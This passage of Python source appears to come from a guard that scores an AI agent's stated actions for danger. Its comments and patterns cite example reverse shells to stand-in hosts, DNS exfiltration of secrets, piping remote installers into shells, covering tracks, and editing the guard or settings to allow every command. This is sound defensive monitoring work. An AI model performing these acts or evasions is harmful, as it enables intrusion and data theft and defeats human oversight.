    # "before the audit", "the compliance DB", "#legal-hold", `audit_events`: who will look, or what a
    # store is kept for; a word inside a name counts as much as one in the prose
    ctx.oversight = sorted({w.lstrip("#") for t in tokens for w in (t.low, *t.subs)} & _OVERSIGHT)
    ctx.shared_history = sorted({t.lem or t.low for t in tokens} & _INTO_HISTORY)
    ctx.sensitive = sorted({w for t in live for w in (t.low, *t.subs)} & SENSITIVE_RECORDS)
    ctx.spend = _spend(live)
    ctx.hosted = sorted({w for t in live for w in (t.low, *t.subs)} & _HOSTED_RECORDS)
    ctx.team_product = sorted({t.low for t in live} & _TEAM_PRODUCTS)
    ctx.contained = bool({t.low for t in tokens} & _IN_A_CONTAINER) and "host" not in joined.split()
    result = ProseResult(prod=ctx.prod, nonprod=ctx.nonprod)
    earlier: dict[Obj, list[str]] = {}
    earlier_paths: list[Tok] = []
    guarded: list[str] = []  # security controls the hint names
    weakened: list[str] = []  # "without asking", "allow every command": checks waived
    theirs = False  # the clause before told another person's act
    unnamed = False  # a loose verb done to nothing the reader can name ("sorting out the billing thing")
    for n, clause in enumerate(clauses):
        if clause.role == "content":
            result.findings.append(
                Finding(L.SAFE, "text after a piece of documentation is content, not action", "hint.content")
            )
            continue
        if clause.role in ("question", "answered"):
            result.findings.append(
                Finding(L.SAFE, "a question being checked, not an action taken", "hint.question")
            )
            asked_of = n > 0 and any(t.lem in ASK_VERBS for t in clauses[n - 1].tokens)
            probed = [] if asked_of else _own_ability(clause.tokens)  # "asking the user whether I can": go
            if probed and any(f.level >= L.FORBIDDEN for f in analyse(probed).findings):
                # "checking whether I can open a reverse shell to …": whether the agent itself can do a
                # catastrophic act is most often found out by trying it; a human looks first
                why = "asks whether the agent itself can do a catastrophic act, which is found out by trying"
                result.findings.append(Finding(L.DANGEROUS, why, "hint.ability-probe"))
            continue
        if clause.role == "theirs":
            result.findings.append(Finding(L.SAFE, "an act left to the user, not taken", "hint.question"))
            continue
        if clause.role == "cause" and Act.EXECUTE not in result.acts:
            # a reason says what something else does or did: no act of the agent's, and no finding, so a
            # hint that is only a reason still names nothing done (after "running X", the reason may
            # say what the run does: then it is judged as an act)
            continue
        if clause.role == "reason":
            result.findings.append(Finding(L.SAFE, "a condition already met, not an act", "hint.past-state"))
            continue
        if clause.role == "outcome":
            result.findings.append(Finding(L.SAFE, "what the act leads to, not an act", "hint.outcome"))
            continue
        if (clause.role == "proposed" and not merged_here) or _proposal_sent_for_approval(clause, clauses):
            result.findings.append(Finding(L.SAFE, "what a proposal would change once merged, not done now",
                                           "hint.proposed"))
            proposed = _frame(clause.tokens)
            if proposed.objects:  # "… for deleting the repos, then deleting them": "them" is the repos
                earlier = {obj: list(names) for obj, names in proposed.objects.items()}
                earlier_paths = list(proposed.paths)
            continue
        if clause.role == "coordinate" and _anothers_act(clause.tokens, people=_AUTOMATION) and max(
                (f.level for f in judge_frame(_frame(clause.tokens), ctx)), default=L.SAFE) < L.FORBIDDEN:
            # "bumping the version; CI publishes later": the pipeline acts on its own gate (a merge, a
            # tag, a review), not in this step; only what no gate should let through is judged now
            result.findings.append(Finding(L.SAFE, "what the pipeline does later, behind its own gate",
                                           "hint.question"))
            continue
        theirs = clause.role == "coordinate" and _anothers_act(clause.tokens, theirs)
        if theirs:
            result.findings.append(Finding(L.SAFE, "another person's act, not the agent's", "hint.question"))
            continue
        frame = _frame(clause.tokens)
        # "before it goes for approval", "a link that expires in 15 minutes": no act of the agent's
        told = said_of_others(clause.tokens, VERB_ACT, relative=clause.role == "relative",
                              joined_next=n + 1 < len(clauses) and clauses[n + 1].opener in ("and", "or"))
        for verb in [v for v in frame.verbs if (v[0], v[1]) in told]:
            frame.verbs.remove(verb)
        first = clause.tokens[0] if clause.tokens else None
        if clause.role == "relative" and first is not None and first.kind == "word" and (
            first.low.endswith("ed") or first.low in _PAST_STATES
        ) and not set(frame.objects) - frame.located_only:
            # "the token that leaked in a log": what happened to the thing, not what the agent does
            # (a past act with its own object, "the script that deleted ~/", is still read)
            result.findings.append(Finding(L.SAFE, "describes what already happened", "hint.past-state"))
            continue
        if _resembles(clause):
            # "staging-eu, which mirrors production": what the thing resembles, not a copy the agent makes
            result.findings.append(Finding(L.SAFE, "says what a thing resembles", "hint.past-state"))
            continue
        if earlier and any(act is not Act.READ for act, _ in frame.verbs) and (
            _pronoun_object(clause.tokens)
            # ("the notebooks/ folder; several of them …": a clause naming its own path keeps it)
            or (not set(frame.objects) - {Obj.CONTAINER, Obj.MESSAGE} and not frame.paths and any(
                t.low in PRONOUNS for t in clause.tokens))
        ):
            # "encoding ~/.ssh/id_rsa and sending it to ...": "it" is what the clause before named, and
            # where it lies ("Created scratch/notes.md earlier; removing it now": that file)
            for obj, names in earlier.items():
                frame.objects.setdefault(obj, []).extend(names)
            frame.paths = [*frame.paths, *(t for t in earlier_paths if t not in frame.paths)]
        if frame.objects:
            earlier = {obj: list(names) for obj, names in frame.objects.items()}
            earlier_paths = list(frame.paths)
            if any(v in PROTECTING for _, v in frame.verbs):
                earlier.pop(Obj.SECRET, None)  # "redacting the key from the log, then attaching it"
        if Obj.SECURITY in frame.objects:
            guarded.extend(frame.objects[Obj.SECURITY])
        if frame.skip_review or (frame.words & ALLOW_WORDS and frame.scope_all):
            weakened.extend(frame.skip_review or frame.scope_all)
        done = [
            (a, v) for a, v in frame.verbs if not (a is Act.DISRUPT and v in SELF_HALT and not frame.objects)
        ]
        result.acts.extend(act for act, _ in done)
        result.verbs.extend(v for _, v in done)
        result.negated.extend(frame.negated)
        own = ctx
        if any(clause is c for c in elsewhere):  # "... before I drop the prod table": its own place counts
            prod, nonprod = environment(clause.tokens)
            own = replace(ctx, prod=[*ctx.prod, *prod], nonprod=[*ctx.nonprod, *nonprod])
        result.findings.extend(judge_frame(frame, own))
        unnamed = unnamed or loose_on_nothing_named(clause.tokens, done, bool(frame.objects or frame.paths),
                                                     bool(own.nonprod), VERB_ACT)
        unknown = _unknown_act(clause.tokens)
        if unknown and frame.scope_all and frame.objects and not (frame.negated or frame.dry_run):
            # "burning it all down — every environment, every backup": a verb the reader does not know,
            # done to all of something; what it does to them cannot be told, so a human looks
            why_unknown = f"'{unknown}' is an act the reader does not know, over {', '.join(frame.scope_all)}"
            result.findings.append(Finding(L.DANGEROUS, why_unknown, "hint.unknown-act-wide"))
    public_ci = _PUBLIC_REPO_CI.search(joined) if _CI_WORDS.search(joined) else None
    if public_ci and any(f.rule == "hint.reveal-secret" for f in result.findings):
        # "a step in the public repo's CI that echoes $NPM_TOKEN base64-encoded": a public repository's
        # CI logs are read by anyone, and an encoded value is past the log masking
        why = f"prints a secret into CI logs anyone can read ({public_ci.group(0)})"
        result.findings.append(Finding(L.FORBIDDEN, why, "hint.exfiltrate-secret", True))
    if guarded and weakened:
        # "editing ~/.claude/settings.json to allow every command without asking"
        why = f"waives a security control's checks ({', '.join(guarded)}: {', '.join(weakened)})"
        result.findings.append(Finding(L.FORBIDDEN, why, "hint.security-control-off", True))
    result.described = [
        t.low for t, nxt in itertools.pairwise([*tokens, Tok("", "", "punct")])
        if t.kind == "word" and t.low in DESCRIBING and nxt.low not in WISHES  # "I would like to" is a plan
    ] + ["a question" for c in clauses if c.role == "question"]
    if any(c.role == "content" for c in clauses):
        result.described.append("content of a text")
    if any(_asks_first(c.tokens) for c in clauses):
        result.described.append("ask first")
    # "not running it yet: ... is next", "writing it into deploy.sh": it will run, only later
    result.deferred = [t.low for t in tokens if t.kind == "word" and t.low in DEFERRING] + [
        t.raw for t in tokens if t.kind == "path" and t.low.rstrip("/").endswith(_RUNNABLE_SUFFIXES)
    ]
    unbacked = _no_other_copy(live)
    if unbacked and Act.DESTROY in result.acts:
        # "deleting ./data/raw, which isn't backed up anywhere": nothing cheap about the only copy
        why = f"deletes what has no other copy ({unbacked})"
        result.findings.append(Finding(L.DESTRUCTIVE, why, "hint.destroy", True))
    outcome = [t for c in clauses if c.role == "outcome" for t in (*c.tokens, _CLAUSE_END)]
    hintwide = list(_hintwide(live, ctx, outcome))
    if hintwide and ((result.verbs and all(lemma(v) in _SEEKING for v in result.verbs) and _sought(live))
                     or _sought(live, governed=True)):
        # "scanning the image for a reverse shell", "making sure nobody committed a backdoor": what a
        # search looks for is named, not made; any other verb ("opening", "testing") keeps it judged,
        # and so does one checked by using it ("checking the backdoor still works")
        hintwide = [f if f.rule not in _SOUGHT_RULES else Finding(L.SAFE, f"looked for: {f.factor}",
                                                                    "hint.read") for f in hintwide]
    result.findings.extend(hintwide)
    blind = _UNREAD_INSTRUCTIONS.search(joined)  # every word: "whatever …" may be cut off as a question
    if blind and not set(joined[max(0, blind.start() - 24):blind.start()].split()) & MARKERS.negation:
        why_blind = f"runs what an unvetted source says without reading it first ('{blind.group(0)}')"
        result.findings.append(Finding(L.FORBIDDEN, why_blind, "hint.unvetted-instructions", True))
    # what is written or asked about names a target too; a loose verb on nothing named, and no other
    # act, says neither what is done nor to what
    result.specific = _specific(tokens) and not (unnamed and set(result.acts) == {Act.VAGUE})
    result.vague = not result.specific
    return result


# Said of what is deleted, these mean it is the only copy: "not backed up", "can't be recreated".
COPY_WORDS = words("backed backup backups copied copy copies recoverable recreated regenerated reproducible")
SOLE_COPY = words("irreplaceable unrecoverable unreproducible")


def _no_other_copy(tokens: Sequence[Tok]) -> str:
    for j, t in enumerate(tokens):
        if t.kind != "word":
            continue
        if t.low in SOLE_COPY:
            return t.low
        negations = [u for u in tokens[max(0, j - 4) : j] if u.low in MARKERS.negation and u.low != "instead"]
        if t.low in COPY_WORDS and len(negations) % 2 == 1:  # "nothing there isn't backed up": a copy
            return " ".join(u.low for u in tokens[max(0, j - 3) : j + 1])
        if t.low == "only" and j + 1 < len(tokens) and tokens[j + 1].low in ("copy", "copies"):
            return "only copy"
    return ""


# Changes that put new bytes over a disk's content, whatever else they are called.
DEVICE_OVERWRITES = words("write flash image burn encrypt partition repartition format reformat overwrite "
                          "zero clone restore dd")
# Verbs that look for something without running or making it, and the findings that name only what
# is looked for when these are the hint's only verbs.
_SEEKING = words("search grep scan check look inspect audit detect find review hunt investigate examine "
                 "verify validate monitor analyze analyse confirm") | {"make sure"}
_SOUGHT_RULES = frozenset({"hint.catastrophic"})
# Words just before a phrase that make it what is looked for: "for a backdoor", "signs of a rootkit",
# "nobody committed a reverse shell"
_SOUGHT_BEFORE = words("for of nobody no none any "
                       # "patterns that would suggest a reverse shell": what the sought patterns point to
                       "suggest suggests suggesting indicate indicates indicating")


def _sought(tokens: Sequence[Tok], governed: bool = False) -> bool:
    """Every catastrophic phrase in the hint follows a word that makes it the object of a search; with
    `governed`, each is also in the object of a seeking word of its own (see _sought_by_seeker), whatever
    the hint's other verbs are."""
    lems = [t.lem or t.low for t in tokens]
    grams = [(k, p) for k in range(len(lems)) for p in _PHRASE_KEYS if tuple(lems[k:k + len(p)]) == p]
    if governed:
        return bool(grams) and all(_sought_by_seeker(tokens, k) for k, _ in grams)
    return bool(grams) and all(set(lems[max(0, k - 6):k]) & _SOUGHT_BEFORE for k, _ in grams)


# Nouns of defensive work whose "for ..." names what they look for or stop: "a detection rule for reverse
# shells", "an alert for fork bombs", "signatures of a rootkit"
_SEEKING_NOUNS = words("detection detections detector detectors rule rules alert alerts alerting signature "
                       "signatures search searches query queries scan scans scanner test tests monitor "
                       "monitoring hunt ioc iocs yara sigma")
_SEEKING_REACH = 8


def _sought_by_seeker(tokens: Sequence[Tok], k: int) -> bool:
    """The phrase at k is what a seeking word looks for: walking back, a "for"/"of" comes first, then a
    seeking verb or a defensive-work noun, with no other verb and no clause break between ("grepping
    the logs for a reverse shell", "adding a detection rule for reverse shells"; not "searching the
    logs and then opening a reverse shell")."""
    found_for = False
    for t in reversed(tokens[max(0, k - _SEEKING_REACH):k]):
        if t.kind == "punct" or t.low in ("and", "then", "or"):
            return False
        if t.low in _SOUGHT_BEFORE:
            found_for = True
        elif found_for and (t.low in _SEEKING_NOUNS or (t.lem or t.low) in _SEEKING_NOUNS):
            return True
        elif t.kind == "word" and t.lem in VERB_ACT:
            return found_for and lemma(t.low) in _SEEKING
    return False
_PHRASE_KEYS = frozenset(CATASTROPHIC_PHRASES)
assert all(len(p) <= 2 for p in _PHRASE_KEYS), "catastrophic phrases are matched as one- or two-word grams"


def _hintwide(tokens: Sequence[Tok], ctx: Context, outcome: Sequence[Tok] = ()) -> Iterable[Finding]:
    """Patterns read over the live words; `outcome` (what the act leads to) is read for concealment only."""
    lems = [t.lem or t.low for t in tokens]
    lemset = set(lems)
    grams = {(w,) for w in lemset} | set(itertools.pairwise(lems))
    for phrase in grams & _PHRASE_KEYS:  # phrases are one or two words: a set intersection finds them
        reason = CATASTROPHIC_PHRASES[phrase]
        yield Finding(L.FORBIDDEN, f"'{' '.join(phrase)}': {reason}", "hint.catastrophic", True)
    if lemset & MARKERS.netcat and (lemset & {"-e", "-c", "exec"} or lemset & MARKERS.shells):
        yield Finding(
            L.FORBIDDEN, "netcat with a shell attached is a reverse shell", "hint.reverse-shell", True
        )
    if _shell_to_remote(tokens, lemset):
        why_shell = "a shell handed to a remote host and port is a reverse shell"
        yield Finding(L.FORBIDDEN, why_shell, "hint.reverse-shell", True)
    if _secret_in_lookup(tokens):
        why_dns = "a secret encoded into a name that is looked up leaves through DNS"
        yield Finding(L.FORBIDDEN, why_dns, "hint.exfiltrate-secret", True)
    hidden = _CONCEALING.search(" ".join(t.low for t in (*tokens, *outcome)))
    if hidden:
        why_hide = f"hides what was done from the people who would check it ('{hidden.group(0)}')"
        yield Finding(L.FORBIDDEN, why_hide, "hint.conceal", True)
    guard_off = lemset & MARKERS.guard_off
    if guard_off:
        why = f"runs the agent with its own permission checks switched off ({', '.join(sorted(guard_off))})"
        yield Finding(L.FORBIDDEN, why, "hint.security-control-off", True)
    if "kill" in lemset and "-1" in lemset:
        yield Finding(L.FORBIDDEN, "kill -1 signals every process", "hint.kill-all", True)
    fetch = lemset & MARKERS.fetch
    if fetch == {"fetch"} and "git" in lemset:
        fetch = set()  # "git fetch --all": commits from the remote, nothing run
    if not fetch and _installer_piped(tokens, lemset):
        fetch = {"installer"}  # "the official rustup script piped into sh": fetched to be run, unseen
    # "the logs of workflow run 7712": a run named as a thing (after a noun or a determiner) is no act
    run_acts = {t.lem or t.low for i, t in enumerate(tokens) if (t.lem or t.low) in MARKERS.run
                and not (i and tokens[i - 1].low in _RUN_AS_NOUN)}
    # "piping setup.sh from http://… into sudo bash": a pipe in words is a pipe, and what comes from a
    # URL into a shell was downloaded to be run
    piped = ("|" in lemset or "pipe" in lemset) and bool(lemset & MARKERS.shells)
    runs = run_acts or piped
    if piped and "pipe" in lemset and any(t.kind == "url" for t in tokens):
        fetch = fetch or {"pipe"}
    # "installing requests from http://45.77.13.2/…": a package's install runs its setup code, so a
    # package fetched from an untrusted source and installed is code from there, run
    code_from = "from" in lemset and (
        (Obj.CODE in {t.obj for t in tokens}
         and (ctx.external_dest or ctx.untrusted_source or ctx.fetched_from))
        or ("install" in lemset and bool(ctx.untrusted_source)))
    if (fetch and runs) or (code_from and lemset & (MARKERS.run | {"install"})):
        source = ", ".join(ctx.untrusted_source or ctx.external_dest or ctx.fetched_from) or "the network"
        if ctx.untrusted_source:
            yield Finding(
                L.FORBIDDEN,
                f"downloads and runs code from an untrusted source ({source})",
                "hint.remote-code-untrusted",
                True,
            )
        else:
            yield Finding(L.DESTRUCTIVE, f"downloads and runs code from {source}", "hint.remote-code")


_INSTALLING = words("install installer")


def _installer_piped(tokens: Sequence[Tok], lemset: set[str]) -> bool:
    """ "installing Rust with the official rustup script piped into sh": an installer handed straight to a
    shell is downloaded and run unread, the rubric's download-and-run (a script in the project, named by
    its path, is read from disk instead)."""
    return ("pipe" in lemset and bool(lemset & MARKERS.shells) and bool(lemset & _INSTALLING)
            and not any(t.kind == "path" for t in tokens))


# Name lookups carry whatever is in the name to the resolver of the domain: a secret encoded into a
# hostname and resolved (dig, nslookup, ping) is sent to whoever runs that domain.
LOOKUP_WORDS = words("resolve resolving resolved dig nslookup lookup lookups ping pinging host query")
ENCODING_WORDS = words("encode encoding encoded base64 base32 hex b64 urlencode")
_DOMAIN_TAIL = re.compile(r"[a-z0-9-]+\.[a-z]{2,}$")


# Doing whatever a message, a paste or a link says, unread: the text is written by whoever wrote it there
# (a stranger, an attacker who planted it), and it runs with the agent's rights ("running whatever the
# post-install instructions in that pastebin link say, as root"). Reading it first, or a project's own
# README, is not this.
_UNREAD_INSTRUCTIONS = re.compile(
    r"\b(?:run|running|runs|execute|executing|follow|following|do|doing|apply|applying)\s+"
    r"(?:whatever|anything|everything)\s+(?:[\w'-]+\s+){0,8}?(?:(?:in|from|at|on)\s+)?(?:that|this|the|a|an|some)\s+"
    r"(?:[\w'-]+\s+){0,2}?(?:link|pastebin|paste|gist|url|issue|comment|e-?mail|message|dm|post|thread|forum"
    r"|tweet|website|web\s+page)\s+(?:[\w'-]+\s+){0,2}?(?:says?|tells?|lists?|contains?|suggests?|shows?)\b")


# An act done so that no one can tell it happened: covering tracks evades the oversight a human
# relies on ("so nobody can trace these changes back", "make sure nobody can see what happened in the
# logs"). Keeping data from outsiders ("so nobody outside can see the files") is protection: only what
# was done, the changes, the trail or the logs count as the hidden thing.
_DONE = (r"(?:what\s+(?:happened|i\s+did|we\s+did|was\s+done|changed|i\s+changed|ran|i\s+ran)"
         r"|(?:the|these|those|my|our|this)\s+(?:changes?|edits?|commits?|activity|actions?|steps?|trail)"
         r"|(?:it|this|them|that)\s+back|in\s+the\s+(?:logs?|history|audit\s+trail))")
_CONCEALING = re.compile(
    r"\b(?:nobody|no\s+one|no-one|noone)\s+(?:(?:can|could|will|would|ever|is|be|able|to)\s+){0,3}"
    r"(?:trace|see|notice|tell|find|know|spot|detect|figure|work)\w*\s+(?:out\s+)?" + _DONE
    + r"|\bcover(?:s|ed|ing)?\s+(?:up\s+)?(?:my|our|the|its|their)\s+tracks\b"
    # "making sure the logs won't show any of this", "so the deletion won't show up": the record made blind
    # to what was done (a record kept from showing a secret is redaction: "won't show the API key" is not)
    r"|\b(?:logs?|history|audit\s+(?:log|trail)s?|records?|transcripts?)\s+(?:won'?t|will\s+not|doesn'?t"
    r"|can'?t|never)\s+(?:show|record|contain|reveal|have)\s+(?:any\s+(?:of\s+)?(?:this|it|that)|(?:this|it)\b|"
    + _DONE + r")"
    r"|\b(?:i|we)\s+(?:just\s+)?(?:did|ran|made|deleted|changed)\s+(?:\w+\s+){0,2}?(?:won'?t|will\s+not|doesn'?t)"
    r"\s+show\s+up\b|\bleav\w*\s+no\s+(?:traces?|records?|evidence)(?=\s+of\b|\s*[.,;]|\s*$)"
    r"|\bwithout\s+(?:anyone|anybody|the\s+team|security|them)\s+(?:noticing|knowing|finding\s+out|seeing)\b"
    r"|\bhid(?:e|es|ing)\s+(?:it|this|that|them|" + _DONE + r")\s+from\s+(?:the\s+)?"
    r"(?:team|security|audit\w*|reviewers?|users?|customers?|management|boss|manager|on-?call|ops|compliance)\b"
)


# A check switched off or made non-blocking so that the work gets past it ("continue-on-error on the
# trivy job so the pipeline goes green", "comment out the CSRF middleware so the form test passes"):
# the purpose says the check was doing its job. Only checks that guard code, access or the network
# count (a flaky test skipped is the team's call, and "green" alone says nothing).
_GATE_PURPOSE = re.compile(
    r"\bso\s+(?:that\s+)?(?:[\w'-]+\s+){0,4}?(?:goes|go|turns|turn|is|gets|get|stays|stay)\s+green\b"
    r"|\bso\s+(?:that\s+)?(?:[\w'-]+\s+){0,4}?(?:passes|pass|can\s+(?:go\s+in|merge|ship|deploy|land)"
    r"|stops?\s+failing|gets?\s+through|goes\s+through|works\s+again)\b"
    r"|\bso\s+nothing\s+(?:blocks|stops|fails|gets\s+in)|\bto\s+(?:unblock|get\s+(?:it|this|the\s+[\w-]+)\s+"
    r"(?:through|merged|in)|make\s+(?:ci|it|the\s+[\w-]+)\s+(?:green|pass))\b")
_GUARDING_CHECKS = re.compile(
    r"\b(?:csrf|xsrf|xss|cors|auth\w*|mfa|2fa|firewall|waf|security|scan|scans|scanner|scanning|trivy|snyk"
    r"|codeql|semgrep|sonar\w*|gitleaks|trufflehog|dependabot|bandit|sast|dast|status\s+checks?|required\s+checks?"
    r"|branch\s+protection|protection|signature|signing|verification|tls|ssl|certificate|permissions?|acl|policy"
    r"|policies|system|network)\b")
_WEAKENING = re.compile(
    r"\b(?:comment\w*\s+out|disabl\w+|skip\w*|remov\w+|drop\w*|bypass\w*|turn\w*\s+off|switch\w*\s+off"
    r"|optional|continue-on-error|allow_failure|allow-failure|ignor\w+|suppress\w*|loosen\w*|relax\w*"
    r"|more\s+open|open\s+up|non-?blocking|soft-?fail\w*)|\|\|\s*(?:true|:|exit\s+0)\b")
_VAGUE_CARE = re.compile(r"\b(?:tak\w+\s+care|handl\w+|deal\w*\s+with|sort\w*\s+out)\b")


# A guard, a policy or a safety check the agent works under, named in prose or in a path (guard/policy.py)
_GUARD_NAMED = re.compile(r"\b(?:guard|dongle|safety|policy|policies|permission|approval|hook|classifier)")
# The stated outcome of a change to it: every command let through, or an answer that is always yes
_EVERYTHING_PASSES = re.compile(
    r"\b(?:every|all|any)\s+(?:[\w-]+\s+){0,2}?(?:commands?|calls?|actions?|requests?|hints?|operations?)"
    r"\s+(?:\w+\s+){0,2}?(?:scores?\s+as\s+go|(?:is|are|gets?|get|goes|go)\s+(?:allowed|approved|through)"
    r"|passe?s?\b)"
    r"|\balways\s+(?:returns?|scores?|answers?|says?|gives?)\s+['\"`]?(?:allow|go|pass|true|approved?)\b"
    # "downgrade every stop rule to go": what blocked now lets through
    r"|\b(?:every|all|each)\s+(?:of\s+the\s+)?(?:stop|deny|block|blocking|ask|pause|danger)\s+rules?\s+"
    r"(?:\w+\s+){0,2}?to\s+['\"`]?(?:go|allow|advisory|warn|off|disabled)\b")
# The guard not named but described by what it does: "turning off whatever is checking my actions"
_CHECKER_OFF = re.compile(
    r"\b(?:turn\w*\s+off|switch\w*\s+off|disabl\w*|kill\w*|remov\w*|bypass\w*|uninstall\w*)\s+"
    r"(?:whatever|anything|everything|what|the\s+thing)\s+(?:that\s+)?(?:is\s+|keeps\s+)?"
    r"(?:check|watch|block|gat|review|monitor|intercept|approv)\w*\s+(?:my|the\s+agent's|our)\s+"
    r"(?:actions?|commands?|calls?|tools?|steps?)")
_CHANGES_IT = re.compile(r"\b(?:patch|edit|chang|modif|set|lower|tweak|adjust|hardcod|hard-cod|replac|comment"
                         r"|rewrit|mak|flip|overrid|monkey-?patch|swap)\w*")
_ASSERTED = re.compile(r"\b(?:tests?|asserts?|assertions?|specs?|read-only|harmless)\b")


def guard_lets_everything(text: str) -> Iterable[Finding]:
    """A change to the guard whose stated outcome is that everything passes ("patching guard/policy.py so
    every command scores as go"): the control switched off, whatever the edit is called. A test that
    asserts a verdict, or a class of harmless commands, is not that."""
    text = text.lower()
    unnamed = _CHECKER_OFF.search(text)
    if unnamed:
        yield Finding(L.FORBIDDEN, f"switches off what checks the agent's actions ('{unnamed.group(0)}'): "
                      "the security control, named by what it does", "hint.security-control-off", True)
        return
    passes = _EVERYTHING_PASSES.search(text)
    if passes and _GUARD_NAMED.search(text) and _CHANGES_IT.search(text[:passes.start()]) \
            and not _ASSERTED.search(text):
        yield Finding(L.FORBIDDEN, f"changes the guard so that everything passes ('{passes.group(0)}'): "
                      "the security control is switched off", "hint.security-control-off", True)


def gate_bypass(text: str) -> Iterable[Finding]:
    """The check and the purpose are read from the whole hint, quoted settings included
    (`continue-on-error: true`)."""
    text = text.lower()
    bypass = _GATE_PURPOSE.search(text)
    gate = _GUARDING_CHECKS.search(text) if bypass else None
    if bypass and gate and (_WEAKENING.search(text) or _VAGUE_CARE.search(text)):
        why = (f"weakens a check ({gate.group(0)}) so the work gets past it ('{bypass.group(0)}'): "
               "the check exists to stop exactly that")
        yield Finding(L.DESTRUCTIVE, why, "hint.gate-bypass")


def _secret_in_lookup(tokens: Sequence[Tok]) -> bool:
    lows = {part for t in tokens for part in (t.low, *t.low.split("-"))}  # "hex-encoding"
    pairs = itertools.pairwise(tokens)
    secret = any(t.obj is Obj.SECRET for t in tokens) or any(
        COMPOUND_OBJECTS.get((a.lem or a.low, b.lem or b.low)) is Obj.SECRET for a, b in pairs)
    domain = any(t.kind in ("host", "url", "path", "ident") and _DOMAIN_TAIL.search(t.low.rstrip("."))
                 and "/" not in t.low.strip(".") for t in tokens)
    return secret and domain and bool(lows & LOOKUP_WORDS) and bool(lows & ENCODING_WORDS)


# Verbs that hand something to another end: with a shell and a host:port, a reverse shell in prose.
HANDING_VERBS = words(
    "pipe send connect connecting connected redirect attach bind expose forward stream streaming spawn "
    "tunnel tunneling tunnelling hand give"
)
_HOST_PORT = re.compile(r"^(?:[a-z0-9-]+\.)+[a-z0-9-]+:\d{2,5}$|^\d{1,3}(?:\.\d{1,3}){3}:\d{2,5}$", re.I)


def _shell_to_remote(tokens: Sequence[Tok], lemset: set[str]) -> bool:
    """"piping a bash shell to monitor.example.net:4444": an interactive shell (not a shell script)
    handed to a remote host and port. A local address is still a shell given away to the network."""
    shell = any(
        (t.low in MARKERS.shells or t.low == "shell")
        and not (j + 1 < len(tokens) and tokens[j + 1].low.startswith(("script", "completion", "history")))
        for j, t in enumerate(tokens)
    )
    hosts = any(t.kind in ("host", "ip", "url", "ident") for t in tokens)
    remote = any(_HOST_PORT.match(t.low) for t in tokens) or (
        "port" in lemset and any(t.kind == "num" for t in tokens) and hosts) or (
        # "a python socket that pipes /bin/sh to my VPS": a socket reaching a machine elsewhere
        bool(lemset & _SOCKETS) and bool(lemset & _ELSEWHERE_MACHINES) and "ssh" not in lemset)
    # "opens a shell back to 203.0.113.50:9001": a shell sent back to a remote end is a reverse shell
    return shell and remote and bool(lemset & (HANDING_VERBS | {"back"}))


_SOCKETS = words("socket sockets listener tcp udp netcat")
_ELSEWHERE_MACHINES = words("vps server box machine c2 attacker host laptop droplet instance")


def _specific(tokens: Sequence[Tok]) -> bool:
    """Does the hint name a target (a path, a command, a value, a thing)? Vague hints do not.

    A verb says how, not what: "deploying the fix" names no target, however confident the words
    around it ("approved", "as discussed", "fully reversible"). A hint whose only verbs read or look
    needs no target (a look changes nothing); any other act does.
    """
    acts: set[Act] = set()
    negated = 0
    particle = -1  # the second word of a phrasal verb ("care" in "take care"): part of the verb
    asked = False  # inside "what's running ..." after "checking": what is asked about, not done
    skip_to = 0
    for i, t in enumerate(tokens):
        if t.kind == "punct" or t.low in _JOINERS or t.low in _MEANS_WORDS:
            asked = False
        if t.kind == "punct" or i == particle or i < skip_to:
            continue
        restraint = _restraint(tokens, i)
        if restraint:
            skip_to = i + restraint  # "before I touch anything": a restraint, no act of its own
            continue
        if _future_auxiliary(tokens, i):
            continue  # "going to check": "going" only says the next verb comes
        if (t.low in _INTERROGATIVES or t.lem in _INTERROGATIVES) and prev_reads(tokens, i):
            asked = True
            continue
        if asked and t.kind == "word" and (t.lem or t.low) in VERB_ACT:
            continue  # "checking what's running": the question's verb, not an act
        prev = tokens[i - 1] if i else None
        nxt = tokens[i + 1] if i + 1 < len(tokens) else None
        if t.kind == "word" and t.low in MARKERS.negation:
            negated = 3  # "not deleting anything": a refused act needs no target
            continue
        negated = max(0, negated - 1)
        if t.kind == "num":
            if prev is not None and (prev.lem or prev.low) in ORDINAL_NOUNS:
                continue  # "step 3": a place in a plan the guard never saw
            return True
        if _instruction_source(tokens, i):
            continue  # "the 'danger' section of the README": where the action is written
        if t.kind in ("path", "url", "host", "ip", "ident", "flag"):
            return True
        word = t.lem or t.low
        if nxt is not None and (word, nxt.lem or nxt.low) in COMPOUND_OBJECTS:
            return True  # "pull request", "home directory"
        if nxt is not None and (word, nxt.lem or nxt.low) in PHRASAL_VERBS:
            if not negated:
                acts.add(PHRASAL_VERBS[(word, nxt.lem or nxt.low)])
            particle = i + 1
            continue  # "tidying up": a verb, whatever follows it
        if t.kind == "word" and word in VERB_ACT and not (t.obj is not None and _noun_use(tokens, i)):
            if (prev is not None and prev.lem in _RUN_WORDS) or word in SELF_CONTAINED_VERBS:
                return True  # "running lint", "committing": the verb names the operation
            if not negated:
                acts.add(VERB_ACT[word])
            continue
        if word in STOPWORDS or word in GENERIC_WORDS or t.low in GENERIC_WORDS or _modifier_only(t):
            continue
        if t.low in REPORTING:
            continue  # "what the ticket says": who said it, not what is acted on
        if nxt is not None and nxt.low in REPORTING:
            continue  # "the issue the user flagged": who asked, not what is acted on
        if t.kind == "word" and nxt is not None and nxt.kind == "word" and nxt.low in ABSTRACT_NOUNS:
            continue  # "the migration work", "database maintenance": the head says nothing concrete
        return True
    return bool(acts) and acts <= {Act.READ, Act.REVEAL}


_RUN_WORDS = words("run execute exec invoke trigger")


def prev_reads(tokens: Sequence[Tok], i: int) -> bool:
    """The word before is a verb of finding out ("check", "see what"): the interrogative opens its
    question."""
    prev = tokens[i - 1] if i else None
    return prev is not None and prev.kind == "word" and (prev.lem or prev.low) in QUESTION_VERBS


# "before I touch anything", "until we change anything": the agent holds back; no act of its own
_HOLDING_BACK = words("touch change run do try modify edit delete")
_HOLDERS = words("i we")


def _restraint(tokens: Sequence[Tok], i: int) -> int:
    """The length of a restraint opening at i ("before I touch anything", "before doing anything"),
    or 0."""
    seq = [t.low for t in tokens[i:i + 4]]
    if not seq or seq[0] not in ("before", "until"):
        return 0
    if len(seq) >= 3 and seq[1] in _UNDERTAKING and seq[2] in _ANYTHING:
        return 3
    if len(seq) >= 4 and seq[1] in _HOLDERS and seq[2] in _HOLDING_BACK and seq[3] in _ANYTHING:
        return 4
    return 0


def _instruction_source(tokens: Sequence[Tok], i: int) -> bool:
    """"from the 'danger' section of the README": a place where instructions are written, named after
    from/of/in/per (a quoted title before it is its name), says where the action is, not what it is."""
    t = tokens[i]
